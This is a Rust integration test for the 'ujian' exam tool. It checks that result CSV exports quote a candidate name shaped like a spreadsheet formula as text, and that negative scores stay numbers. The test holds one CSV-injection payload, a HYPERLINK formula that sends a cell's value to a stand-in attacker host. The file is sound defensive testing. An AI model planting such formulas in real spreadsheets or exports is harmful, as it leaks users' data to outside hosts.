//! What ujian leaves on disk: result CSVs a spreadsheet opens without running anything
//! in them.

use std::process::Command;

use crate::helpers::{PIN, Setup, TestApp, best_and_worst, participant, repo};

fn ujian(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_ujian")).args(args).current_dir(repo("")).output().expect("run ujian");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into(),
        String::from_utf8_lossy(&out.stderr).into(),
    )
}

#[tokio::test]
async fn a_candidate_named_like_a_formula_is_exported_as_text_and_negative_scores_stay_numbers() {
    let mut app = TestApp::spawn(Setup::tiny(1)).await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"Klik")"#;
    let pins = server::credentials::PinKey::load_or_create(app.dir.path()).expect("pin key");
    let renamed = store::NewCandidate {
        participant_no: participant(1),
        name: formula.into(),
        birth_date: None,
        pin_hash: pins.hash_pin(&participant(1), PIN),
        accommodation: None,
    };
    app.store().put_candidates(&[renamed], chrono::Utc::now()).await.expect("rename");
    // Both keyed questions answered wrong: -1 each (the tiny exam's rule).
    let mut c = app.candidate(1).await;
    let key = best_and_worst(&app, &format!("T-1.{}", participant(1))).await;
    for (q, (_, worst, ..)) in key.iter().enumerate().take(2) {
        c.answer(q, Some(worst)).await;
    }
    c.finish().await;
    let (dir, url) = (app.dir.path().to_owned(), app.url.clone());
    app.shutdown().await;
    let (code, out, err) = ujian(&[
        "--data-dir",
        dir.to_str().expect("utf8"),
        "--database",
        &url,
        "results",
        "export",
        "--sitting",
        "T-1",
    ]);
    assert_eq!(code, 0, "{err}");
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    let headers = reader.headers().expect("header").clone();
    let row = reader.records().next().expect("a row").expect("csv");
    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).expect(name).to_owned();
    assert_eq!(cell("name"), format!("'{formula}"), "the name is text, not a formula");
    assert_eq!(cell("K"), "-2", "a negative score stays a number");
    assert_eq!(cell("total").parse::<i64>().ok(), Some(-2));
}
